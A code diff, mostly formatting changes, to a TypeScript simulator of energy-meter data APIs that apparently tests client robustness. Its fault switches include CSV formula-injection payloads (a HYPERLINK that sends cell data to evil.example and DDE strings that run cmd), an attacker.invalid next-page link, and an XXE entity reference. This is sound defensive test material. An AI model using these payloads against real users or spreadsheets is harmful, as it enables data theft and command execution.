@@ -76,7 +76,15 @@
  * token/URL equals the current one), xmlDoctype (B XML: DOCTYPE with an external entity referenced in a
  * name), csvInjection (B CSV: text cells starting with = + - @).
  */
-import { json, text, header, intParam, FaultController, StatsCounter, startSimServer } from './common/http.js';
+import {
+  json,
+  text,
+  header,
+  intParam,
+  FaultController,
+  StatsCounter,
+  startSimServer,
+} from './common/http.js';
 import type { CommonFaults, FaultSwitch, SimRequest, SimResponse, SimStats } from './common/http.js';
 import { TokenStore } from './common/tokens.js';
 import { DayCache, dayTotal, roundTo } from './common/load.js';
@@ -201,7 +209,10 @@ export interface GenericJsonSimulator extends GenericSimulatorBase {
   apiKey: string;
 }
 
-const A_COMMODITIES: Record<GenericJsonMeterTruth['commodity'], CommodityInfo & { unit: GenericJsonMeterTruth['unit'] }> = {
+const A_COMMODITIES: Record<
+  GenericJsonMeterTruth['commodity'],
+  CommodityInfo & { unit: GenericJsonMeterTruth['unit'] }
+> = {
   electricity: { commodity: 'electricity', decimals: 3, unit: 'kWh' },
   district_heat: { commodity: 'heat', decimals: 4, unit: 'GJ' },
   water: { commodity: 'water', decimals: 3, unit: 'm3' },
@@ -216,14 +227,18 @@ function offsetPage<T>(
 ): { data: T[]; meta: { offset: number; limit: number; total: number } } | SimResponse {
   const offset = intParam(req.query, 'offset') ?? 0;
   const limit = intParam(req.query, 'limit') ?? defaultLimit;
-  if (!Number.isInteger(offset) || offset < 0) return json(400, { error: 'bad_request', message: 'offset must be a non-negative integer' });
-  if (!Number.isInteger(limit) || limit < 1 || limit > 1000) return json(400, { error: 'bad_request', message: 'limit must be between 1 and 1000' });
+  if (!Number.isInteger(offset) || offset < 0)
+    return json(400, { error: 'bad_request', message: 'offset must be a non-negative integer' });
+  if (!Number.isInteger(limit) || limit < 1 || limit > 1000)
+    return json(400, { error: 'bad_request', message: 'limit must be between 1 and 1000' });
   let start = offset;
   if (offset > 0 && faults.take('duplicateAcrossPages', req.endpoint)) start = offset - 1;
   return { data: items.slice(start, offset + limit), meta: { offset, limit, total: items.length } };
 }
 
-export async function startGenericJsonSimulator(opts: GenericJsonOptions = {}): Promise<GenericJsonSimulator> {
+export async function startGenericJsonSimulator(
+  opts: GenericJsonOptions = {},
+): Promise<GenericJsonSimulator> {
   const seed = opts.seed ?? 1;
   const from = opts.from ?? '2024-01-01';
   if (!isYmd(from)) throw new Error(`from must be YYYY-MM-DD: ${from}`);
@@ -240,12 +255,27 @@ export async function startGenericJsonSimulator(opts: GenericJsonOptions = {}): 
   const sites: GenericJsonSiteTruth[] = [];
   const meters: GenericJsonMeterTruth[] = [];
   let meterSeq = 101;
-  const makeMeter = (site: GenericJsonSiteTruth, k: number, building: MeterModel['building'], area: number, lat: number, lon: number): GenericJsonMeterTruth => {
+  const makeMeter = (
+    site: GenericJsonSiteTruth,
+    k: number,
+    building: MeterModel['building'],
+    area: number,
+    lat: number,
+    lon: number,
+  ): GenericJsonMeterTruth => {
     const r = rngFor(seed, 'a-meter', site.site_id, k);
-    const kinds: Array<GenericJsonMeterTruth['commodity']> = ['electricity', 'district_heat', 'water', 'natural_gas', 'electricity'];
+    const kinds: Array<GenericJsonMeterTruth['commodity']> = [
+      'electricity',
+      'district_heat',
+      'water',
+      'natural_gas',
+      'electricity',
+    ];
     const commodity = kinds[k % kinds.length] as GenericJsonMeterTruth['commodity'];
     const info = A_COMMODITIES[commodity];
-    const perM2 = { electricity: 0.012, heat: 0.02, cooling: 0.01, water: 0.00012, gas: 0.015 }[info.commodity];
+    const perM2 = { electricity: 0.012, heat: 0.02, cooling: 0.01, water: 0.00012, gas: 0.015 }[
+      info.commodity
+    ];
     const id = `M-${String(meterSeq++).padStart(6, '0')}`;
     const model: MeterModel = {
       key: `a-${id}`,
@@ -278,15 +308,23 @@ export async function startGenericJsonSimulator(opts: GenericJsonOptions = {}): 
       register_digits: digits,
       reading_interval_minutes: every,
       timeZone: tz,
-      initialRegister: rollover ? Number.NaN : roundTo(randRange(r, 100, 0.002 * 10 ** digits), info.decimals),
-      reset: replacement ? { kind: 'replacement', at: resetAt } : rollover ? { kind: 'rollover', at: resetAt } : null,
+      initialRegister: rollover
+        ? Number.NaN
+        : roundTo(randRange(r, 100, 0.002 * 10 ** digits), info.decimals),
+      reset: replacement
+        ? { kind: 'replacement', at: resetAt }
+        : rollover
+          ? { kind: 'rollover', at: resetAt }
+          : null,
       dataStart,
       dataEnd,
       model,
     };
   };
   const nSites = opts.sites ?? 10;
-  const makeSite = (i: number): { site: GenericJsonSiteTruth; building: MeterModel['building']; lat: number; lon: number } => {
+  const makeSite = (
+    i: number,
+  ): { site: GenericJsonSiteTruth; building: MeterModel['building']; lat: number; lon: number } => {
     const r = rngFor(seed, 'a-site', i);
     const place = placeFor(r, tz);
     const building = pick(r, BUILDINGS);
@@ -319,8 +357,16 @@ export async function startGenericJsonSimulator(opts: GenericJsonOptions = {}): 
     if (kind === 'rollover') m.initialRegister = Number.NaN;
   };
   if (meters.length >= 4) {
-    if (!meters.some((m) => m.reset?.kind === 'replacement')) forceReset(meters.find((m, i) => i >= 1 && !m.reset), 'replacement');
-    if (!meters.some((m) => m.reset?.kind === 'rollover')) forceReset(meters.find((m, i) => i >= 2 && !m.reset), 'rollover');
+    if (!meters.some((m) => m.reset?.kind === 'replacement'))
+      forceReset(
+        meters.find((m, i) => i >= 1 && !m.reset),
+        'replacement',
+      );
+    if (!meters.some((m) => m.reset?.kind === 'rollover'))
+      forceReset(
+        meters.find((m, i) => i >= 2 && !m.reset),
+        'rollover',
+      );
   }
   const byId = new Map(meters.map((m) => [m.meter_id, m]));
 
@@ -343,7 +389,8 @@ export async function startGenericJsonSimulator(opts: GenericJsonOptions = {}): 
       arr = [0];
       dayStartCum.set(m.meter_id, arr);
     }
-    while (arr.length <= idx) arr.push((arr[arr.length - 1] as number) + dayTotalScaled(m, addDays(from, arr.length - 1)));
+    while (arr.length <= idx)
+      arr.push((arr[arr.length - 1] as number) + dayTotalScaled(m, addDays(from, arr.length - 1)));
     let s = arr[idx] as number;
     const d = cache.get(m.model, date);
     const f = scale(m);
@@ -407,7 +454,13 @@ export async function startGenericJsonSimulator(opts: GenericJsonOptions = {}): 
         }
       }
       if (missing) continue;
-      out.push({ meter_id: m.meter_id, at: t, read_at: formatLocalNoOffset(t, tz), value: roundTo(registerAt(m, t), m.model.decimals), estimated: est });
+      out.push({
+        meter_id: m.meter_id,
+        at: t,
+        read_at: formatLocalNoOffset(t, tz),
+        value: roundTo(registerAt(m, t), m.model.decimals),
+        estimated: est,
+      });
     }
     return out;
   };
@@ -507,15 +560,23 @@ export async function startGenericJsonSimulator(opts: GenericJsonOptions = {}): 
           if (!m) return json(404, { error: 'not_found', message: `meter ${req.params.id} not found` });
           const f = req.query.get('from');
           const t = req.query.get('to');
-          if (!f || !t) return json(400, { error: 'bad_request', message: 'from and to (YYYY-MM-DD) are required' });
-          if (!isYmd(f) || !isYmd(t)) return json(400, { error: 'bad_request', message: 'from and to must be YYYY-MM-DD' });
+          if (!f || !t)
+            return json(400, { error: 'bad_request', message: 'from and to (YYYY-MM-DD) are required' });
+          if (!isYmd(f) || !isYmd(t))
+            return json(400, { error: 'bad_request', message: 'from and to must be YYYY-MM-DD' });
           const span = daysBetween(f, t) + 1;
           if (span < 1) return json(400, { error: 'bad_request', message: 'to must not be before from' });
-          if (span > maxRange) return json(400, { error: 'bad_request', message: `date range exceeds ${maxRange} days` });
+          if (span > maxRange)
+            return json(400, { error: 'bad_request', message: `date range exceeds ${maxRange} days` });
           const p = offsetPage(readings(m, f, t), req, faults, 500);
           if ('status' in p) return p;
           return json(200, {
-            data: p.data.map((r) => ({ meter_id: r.meter_id, read_at: r.read_at, value: r.value, estimated: r.estimated })),
+            data: p.data.map((r) => ({
+              meter_id: r.meter_id,
+              read_at: r.read_at,
+              value: r.value,
+              estimated: r.estimated,
+            })),
             meta: p.meta,
           });
         },
@@ -604,7 +665,12 @@ export interface GenericXmlCsvTruth {
   meters: GenericXmlCsvMeterTruth[];
   meter(id: string): GenericXmlCsvMeterTruth | undefined;
   /** Records for local dates [startDate, endDate) (daily), or months starting in that range (monthly). */
-  consumption(meterId: string, granularity: 'daily' | 'monthly', startDate: string, endDate: string): ConsumptionRecord[];
+  consumption(
+    meterId: string,
+    granularity: 'daily' | 'monthly',
+    startDate: string,
+    endDate: string,
+  ): ConsumptionRecord[];
   day(meterId: string, date: string): DaySeries;
 }
 
@@ -616,7 +682,10 @@ export interface GenericXmlCsvSimulator extends GenericSimulatorBase {
   credentials: { username: string; password: string; clientId: string; clientSecret: string };
 }
 
-const B_MEDIUM: Record<GenericXmlCsvMeterTruth['medium'], CommodityInfo & { unit: GenericXmlCsvMeterTruth['unit']; price: number | null }> = {
+const B_MEDIUM: Record<
+  GenericXmlCsvMeterTruth['medium'],
+  CommodityInfo & { unit: GenericXmlCsvMeterTruth['unit']; price: number | null }
+> = {
   Electricity: { commodity: 'electricity', decimals: 3, unit: 'kWh', price: 0.18 },
   Heat: { commodity: 'heat', decimals: 6, unit: 'MWh', price: 85 },
   Water: { commodity: 'water', decimals: 3, unit: 'm³', price: null },
@@ -624,7 +693,12 @@ const B_MEDIUM: Record<GenericXmlCsvMeterTruth['medium'], CommodityInfo & { unit
 };
 
 export function xmlEscape(s: string): string {
-  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&apos;');
+  return s
+    .replace(/&/g, '&amp;')
+    .replace(/</g, '&lt;')
+    .replace(/>/g, '&gt;')
+    .replace(/"/g, '&quot;')
+    .replace(/'/g, '&apos;');
 }
 
 export function csvCell(v: string | number | boolean | null): string {
@@ -635,9 +709,16 @@ export function csvCell(v: string | number | boolean | null): string {
 
 type Row = Record<string, string | number | boolean | null>;
 
-const CSV_INJECTIONS = ['=HYPERLINK("http://evil.example/steal?d="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
+const CSV_INJECTIONS = [
+  '=HYPERLINK("http://evil.example/steal?d="&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+];
 
-export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {}): Promise<GenericXmlCsvSimulator> {
+export async function startGenericXmlCsvSimulator(
+  opts: GenericXmlCsvOptions = {},
+): Promise<GenericXmlCsvSimulator> {
   const seed = opts.seed ?? 1;
   const from = opts.from ?? '2024-01-01';
   if (!isYmd(from)) throw new Error(`from must be YYYY-MM-DD: ${from}`);
@@ -658,7 +739,15 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
   const buildings: GenericXmlCsvBuildingTruth[] = [];
   const meters: GenericXmlCsvMeterTruth[] = [];
   let meterSeq = 1001;
-  const makeBuilding = (i: number): { b: GenericXmlCsvBuildingTruth; tz: string; building: MeterModel['building']; lat: number; lon: number } => {
+  const makeBuilding = (
+    i: number,
+  ): {
+    b: GenericXmlCsvBuildingTruth;
+    tz: string;
+    building: MeterModel['building'];
+    lat: number;
+    lon: number;
+  } => {
     const r = rngFor(seed, 'b-building', i);
     const tz = timeZones[i % timeZones.length] as string;
     const place = placeFor(r, tz);
@@ -686,7 +775,13 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
       const medium = media[k % media.length] as GenericXmlCsvMeterTruth['medium'];
       const info = B_MEDIUM[medium];
       const hasSolar = medium === 'Electricity' && r() < (opts.solarShare ?? 0.4);
-      const size = { electricity: randRange(r, 20, 300), heat: randRange(r, 30, 400), cooling: 50, water: randRange(r, 0.3, 3), gas: randRange(r, 30, 300) }[info.commodity];
+      const size = {
+        electricity: randRange(r, 20, 300),
+        heat: randRange(r, 30, 400),
+        cooling: 50,
+        water: randRange(r, 0.3, 3),
+        gas: randRange(r, 30, 300),
+      }[info.commodity];
       const id = `EM-${meterSeq++}`;
       meters.push({
         id,
@@ -725,7 +820,14 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
   }
   const byId = new Map(meters.map((m) => [m.id, m]));
 
-  const record = (m: GenericXmlCsvMeterTruth, start: number, end: number, imp: number, exp: number | null, est: boolean): ConsumptionRecord => ({
+  const record = (
+    m: GenericXmlCsvMeterTruth,
+    start: number,
+    end: number,
+    imp: number,
+    exp: number | null,
+    est: boolean,
+  ): ConsumptionRecord => ({
     meter_id: m.id,
     start,
     end,
@@ -738,7 +840,12 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
     cost: m.price === null ? null : roundTo(imp * m.price, 2),
     currency: m.price === null ? null : 'EUR',
   });
-  const consumption = (m: GenericXmlCsvMeterTruth, gran: 'daily' | 'monthly', a: string, b: string): ConsumptionRecord[] => {
+  const consumption = (
+    m: GenericXmlCsvMeterTruth,
+    gran: 'daily' | 'monthly',
+    a: string,
+    b: string,
+  ): ConsumptionRecord[] => {
     const out: ConsumptionRecord[] = [];
     const first = localDate(m.time_zone, m.dataStart);
     const lastExcl = addDays(first, days);
@@ -764,7 +871,16 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
         exp += t.exp ?? 0;
         est ||= t.estimated || t.missing;
       }
-      out.push(record(m, localMidnight(m.time_zone, mo), localMidnight(m.time_zone, next), roundTo(imp, m.model.decimals), m.hasSolar ? roundTo(exp, m.model.decimals) : null, est));
+      out.push(
+        record(
+          m,
+          localMidnight(m.time_zone, mo),
+          localMidnight(m.time_zone, next),
+          roundTo(imp, m.model.decimals),
+          m.hasSolar ? roundTo(exp, m.model.decimals) : null,
+          est,
+        ),
+      );
     }
     return out;
   };
@@ -795,7 +911,8 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
   let insertedBuildings = 0;
   let base = '';
 
-  const plain = (status: number, msg: string, headers: Record<string, string> = {}): SimResponse => text(status, msg + '\n', 'text/plain; charset=utf-8', headers);
+  const plain = (status: number, msg: string, headers: Record<string, string> = {}): SimResponse =>
+    text(status, msg + '\n', 'text/plain; charset=utf-8', headers);
 
   const checkAuth = (req: SimRequest): SimResponse | null => {
     const h = header(req, 'authorization') ?? '';
@@ -825,7 +942,8 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
     return defaultFormat;
   };
 
-  const encodeCursor = (offset: number, key: string): string => Buffer.from(JSON.stringify({ o: offset, k: key }), 'utf8').toString('base64url');
+  const encodeCursor = (offset: number, key: string): string =>
+    Buffer.from(JSON.stringify({ o: offset, k: key }), 'utf8').toString('base64url');
   const decodeCursor = (t: string, key: string): number | null => {
     try {
       const v = JSON.parse(Buffer.from(t, 'base64url').toString('utf8')) as { o?: unknown; k?: unknown };
@@ -844,7 +962,8 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
     const fmt = chooseFormat(req);
     if (!fmt) return plain(400, 'format must be xml or csv');
     const size = intParam(req.query, 'page_size') ?? 100;
-    if (!Number.isInteger(size) || size < 1 || size > 500) return plain(400, 'page_size must be between 1 and 500');
+    if (!Number.isInteger(size) || size < 1 || size > 500)
+      return plain(400, 'page_size must be between 1 and 500');
     const keyParams = new URLSearchParams(req.query);
     keyParams.delete('page_token');
     keyParams.delete('format');
@@ -881,7 +1000,10 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
         const foreign = faults.take('foreignNextLink', req.endpoint);
         let href = u.toString();
         if (foreign) {
-          const origin = 'origin' in foreign && typeof foreign.origin === 'string' ? foreign.origin : 'http://attacker.invalid:8080';
+          const origin =
+            'origin' in foreign && typeof foreign.origin === 'string'
+              ? foreign.origin
+              : 'http://attacker.invalid:8080';
           href = origin + u.pathname + u.search;
         }
         headers.link = `<${href}>; rel="next"`;
@@ -903,12 +1025,16 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
         const v = r[c];
         if (v === null || v === undefined) return;
         const name = kind.xmlNames[i] as string;
-        const content = doctype && idx === 0 && (c === 'name' || c === 'description' || c === 'unit') ? '&xxe;' : xmlEscape(String(v));
+        const content =
+          doctype && idx === 0 && (c === 'name' || c === 'description' || c === 'unit')
+            ? '&xxe;'
+            : xmlEscape(String(v));
         parts.push(`    <${name}>${content}</${name}>`);
       });
       parts.push(`  </${kind.item}>`);
     });
-    if (next !== null && pagination === 'cursor') parts.push(`  <NextPageToken>${xmlEscape(next)}</NextPageToken>`);
+    if (next !== null && pagination === 'cursor')
+      parts.push(`  <NextPageToken>${xmlEscape(next)}</NextPageToken>`);
     parts.push(`</${kind.root}>`);
     return text(200, parts.join('\n') + '\n', 'application/xml; charset=utf-8', headers);
   };
@@ -928,8 +1054,28 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
   const CONSUMPTION_KIND = {
     root: 'ConsumptionRecords',
     item: 'Record',
-    columns: ['meter_id', 'period_start', 'period_end', 'consumption', 'unit', 'redelivery', 'estimated', 'cost', 'currency'],
-    xmlNames: ['MeterId', 'PeriodStart', 'PeriodEnd', 'Consumption', 'Unit', 'Redelivery', 'Estimated', 'Cost', 'Currency'],
+    columns: [
+      'meter_id',
+      'period_start',
+      'period_end',
+      'consumption',
+      'unit',
+      'redelivery',
+      'estimated',
+      'cost',
+      'currency',
+    ],
+    xmlNames: [
+      'MeterId',
+      'PeriodStart',
+      'PeriodEnd',
+      'Consumption',
+      'Unit',
+      'Redelivery',
+      'Estimated',
+      'Cost',
+      'Currency',
+    ],
   };
 
   const routes = [
@@ -940,9 +1086,13 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
       handler: (req: SimRequest): SimResponse => {
         const u = checkAuth(req);
         if (u) return u;
-        const rows = buildingOrder.map((b) => ({ ...b }) as Row);
+        const rows = buildingOrder.map((b) => ({ ...b }));
         const out = respond(req, BUILDING_KIND, rows);
-        if (out.status === 200 && req.query.get('page_token') === null && faults.take('shiftDuringPaging', req.endpoint)) {
+        if (
+          out.status === 200 &&
+          req.query.get('page_token') === null &&
+          faults.take('shiftDuringPaging', req.endpoint)
+        ) {
           const index = 1000 + insertedBuildings++;
           const x = makeBuilding(index);
           buildings.push(x.b);
@@ -964,7 +1114,14 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
         const b = req.query.get('building_id');
         const rows = meters
           .filter((m) => !b || m.building_id === b)
-          .map((m) => ({ id: m.id, building_id: m.building_id, medium: m.medium, unit: m.unit, time_zone: m.time_zone, description: m.description }));
+          .map((m) => ({
+            id: m.id,
+            building_id: m.building_id,
+            medium: m.medium,
+            unit: m.unit,
+            time_zone: m.time_zone,
+            description: m.description,
+          }));
         return respond(req, METER_KIND, rows);
       },
     },
@@ -985,23 +1142,21 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
         if (b <= a) return plain(400, 'end_date must be after start_date');
         if (g === 'daily' && daysBetween(a, b) > 366) return plain(400, 'daily range exceeds 366 days');
         if (g === 'monthly') {
-          if (parseYmd(a).day !== 1 || parseYmd(b).day !== 1) return plain(400, 'monthly start_date and end_date must be the 1st of a month');
+          if (parseYmd(a).day !== 1 || parseYmd(b).day !== 1)
+            return plain(400, 'monthly start_date and end_date must be the 1st of a month');
           if (addMonths(a, 60) < b) return plain(400, 'monthly range exceeds 60 months');
         }
-        const rows = consumption(m, g, a, b).map(
-          (r) =>
-            ({
-              meter_id: r.meter_id,
-              period_start: r.period_start,
-              period_end: r.period_end,
-              consumption: r.consumption,
-              unit: r.unit,
-              redelivery: r.redelivery,
-              estimated: r.estimated,
-              cost: r.cost,
-              currency: r.currency,
-            }) as Row,
-        );
+        const rows = consumption(m, g, a, b).map((r) => ({
+          meter_id: r.meter_id,
+          period_start: r.period_start,
+          period_end: r.period_end,
+          consumption: r.consumption,
+          unit: r.unit,
+          redelivery: r.redelivery,
+          estimated: r.estimated,
+          cost: r.cost,
+          currency: r.currency,
+        }));
         return respond(req, CONSUMPTION_KIND, rows);
       },
     },
@@ -1010,17 +1165,21 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
       path: '/oauth/token',
       endpoint: 'token',
       handler: (req: SimRequest): SimResponse => {
-        if (auth !== 'oauth2-password') return json(404, { error: 'not_found', error_description: 'OAuth2 is not enabled' });
+        if (auth !== 'oauth2-password')
+          return json(404, { error: 'not_found', error_description: 'OAuth2 is not enabled' });
         const form = new URLSearchParams(req.body.toString('utf8'));
         let cid = form.get('client_id');
         let csec = form.get('client_secret');
         const basic = /^Basic\s+(\S+)$/i.exec(header(req, 'authorization') ?? '');
         if (basic) {
-          const [u, p] = Buffer.from(basic[1] as string, 'base64').toString('utf8').split(':');
+          const [u, p] = Buffer.from(basic[1] as string, 'base64')
+            .toString('utf8')
+            .split(':');
           cid = decodeURIComponent(u ?? '');
           csec = decodeURIComponent(p ?? '');
         }
-        if (cid !== clientId || csec !== clientSecret) return json(401, { error: 'invalid_client', error_description: 'Client authentication failed' });
+        if (cid !== clientId || csec !== clientSecret)
+          return json(401, { error: 'invalid_client', error_description: 'Client authentication failed' });
         const gt = form.get('grant_type');
         let user: string;
         if (gt === 'password') {
@@ -1034,11 +1193,25 @@ export async function startGenericXmlCsvSimulator(opts: GenericXmlCsvOptions = {
           if (!u) return json(400, { error: 'invalid_grant', error_description: 'Invalid refresh token' });
           refreshTokens.delete(rt); // rotation: a refresh token is single-use
           user = u;
-        } else return json(400, { error: 'unsupported_grant_type', error_description: `Unsupported grant_type: ${gt ?? ''}` });
+        } else
+          return json(400, {
+            error: 'unsupported_grant_type',
+            error_description: `Unsupported grant_type: ${gt ?? ''}`,
+          });
         const t = tokens.issue(user, lifetime);
         const refresh = 'rt_' + hexId(rngFor(seed, 'refresh', ++refreshSeq), 32);
         refreshTokens.set(refresh, user);
-        return json(200, { access_token: t.token, token_type: 'Bearer', expires_in: lifetime, refresh_token: refresh, scope: 'read' }, { 'cache-control': 'no-store' });
+        return json(
+          200,
+          {
+            access_token: t.token,
+            token_type: 'Bearer',
+            expires_in: lifetime,
+            refresh_token: refresh,
+            scope: 'read',
+          },
+          { 'cache-control': 'no-store' },
+        );
       },
     },
   ];
